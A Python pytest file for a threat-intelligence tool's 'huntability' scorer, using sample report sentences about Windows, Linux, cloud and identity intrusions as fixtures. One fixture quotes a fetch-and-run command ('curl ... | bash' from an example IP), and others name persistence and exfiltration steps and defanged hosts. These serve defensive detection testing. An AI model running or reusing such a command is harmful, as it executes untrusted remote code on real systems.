"""Huntability: what can be hunted for counts, on every platform, and says why."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ctiscraper.enrich.hunting import huntability

WINDOWS = (
    "The loader spawned rundll32.exe C:\\ProgramData\\k.dll,Start and set the registry key "
    "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run for persistence."
)
LINUX = (
    "The implant was downloaded with curl -fsSL http://203.0.113.7/x.sh | bash and persisted by "
    "a crontab entry that executes /tmp/.x/run.sh every minute."
)
CLOUD = (
    "With the stolen access key the intruder called AssumeRole, enumerated IAM users, and "
    "exfiltrated snapshots; CloudTrail logged the user agent aws-cli and the address."
)
IDENTITY = (
    "The device code phishing led to token theft; sign-in logs show an OAuth consent grant for a "
    "service principal from the IP address 203.0.113.9."
)
TALK = (
    "Thank you to our partners and customers. Sign up for our webinar to learn more about the "
    "platform, and follow best practices: organizations should patch today to reduce risk."
)


@pytest.mark.parametrize("text", [WINDOWS, LINUX, CLOUD, IDENTITY])
def test_what_intruders_do_can_be_hunted_for_wherever_they_do_it(text: str) -> None:
    assert huntability(text).score > 0.8


def test_what_is_said_to_customers_cannot() -> None:
    assert huntability(TALK).score < 0.2
    assert huntability("").score < 0.5


def test_every_part_shows_the_words_that_gave_its_points() -> None:
    done = huntability(WINDOWS)
    parts = {part.name: part for part in done.parts}
    assert {"loader", "spawned", "persistence"} <= set(parts["acts"].evidence)
    assert any("rundll32" in word for word in parts["traces"].evidence)
    assert parts["talk"].evidence == ()
    assert parts["talk"].points == 0
    assert all(word in WINDOWS.lower() for word in parts["acts"].evidence)


@given(st.text(max_size=200))
def test_the_score_is_between_none_and_all(text: str) -> None:
    assert 0 <= huntability(text).score <= 1


def test_the_same_words_twice_are_no_better_than_once() -> None:
    once = huntability(WINDOWS + " " + "x" * len(WINDOWS))
    twice = huntability(WINDOWS + " " + WINDOWS)
    assert dict.fromkeys(p.evidence for p in once.parts if p.name != "traces") == dict.fromkeys(
        p.evidence for p in twice.parts if p.name != "traces"
    )


def test_a_host_that_is_told_as_a_url_too_counts_once() -> None:
    listed = "URLs\n\nevil[.]top\nbad[.]top\n"
    [hosts] = [part for part in huntability(listed).parts if part.name == "traces"]
    assert hosts.evidence == ("evil.top", "bad.top")
